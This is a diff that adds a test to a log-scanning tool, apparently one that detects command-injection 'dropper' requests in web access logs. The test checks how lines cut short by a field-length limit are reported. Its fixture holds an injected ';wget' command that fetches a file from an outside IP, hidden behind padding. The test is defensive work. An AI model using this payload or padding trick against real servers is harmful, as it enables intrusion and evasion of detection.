@@ -498,3 +498,29 @@ def test_a_hostile_directory_through_the_console_entry(tmp_path):
     ]
     hits = [(os.path.basename(x["log_file"]), x["line_no"]) for x in map(json.loads, p.stdout.splitlines())]
     assert hits == [("access.log.3.gz", 1), ("access.log.1", 2), ("access.log", 2)]
+
+
+# --- a bound reached is said everywhere a finding goes --------------------------------------
+def test_unscanned_lines_in_explain_frames_and_on_stderr(tmp_path, runner, full_scanner):
+    from dropscan.explain import explain_line, explain_text
+    from dropscan.frames import to_frame
+
+    cut = line(target=b"/?pad=" + b"x" * MAX_FIELD + b"&c=;wget%20http://198.51.100.9/x")
+    e = explain_line(cut, full_scanner, COMBINED)
+    assert e["unscanned"] == ["field-cut"] and e["finding"]["category"] == "unscanned"
+    assert "unscanned: a bound stopped this line short (field-cut)" in explain_text(e)
+    finding, _ = full_scanner.scan_line(cut, COMBINED)
+    df = to_frame([finding, full_scanner.scan_line(ATTACK, COMBINED)[0]], full_scanner.sigs)
+    assert list(df["rule_id"]) == ["unscanned.field-cut", "dropper.wget"]  # a category, not NaN
+    assert list(df["category"]) == ["unscanned", "dropper"]
+    # 25 such lines: the first 20 named on stderr, then one line; the summary counts all 25
+    log = write(tmp_path / "access.log", cut * 25)
+    summary = tmp_path / "s.json"
+    r = runner.invoke(app, ["scan", str(log), "-f", "jsonl", "--summary", str(summary)])
+    assert r.exit_code == 1 and len(r.stdout.splitlines()) == 25
+    named = [ln for ln in r.stderr.splitlines() if "not scanned to the end (field-cut)" in ln]
+    assert len(named) == 20 and named[0].endswith(
+        f"{log}:1: not scanned to the end (field-cut): an 'unscanned' finding"
+    )
+    assert r.stderr.count("more lines were not scanned to the end") == 1
+    assert json.loads(summary.read_text())["totals"]["unscanned"] == 25
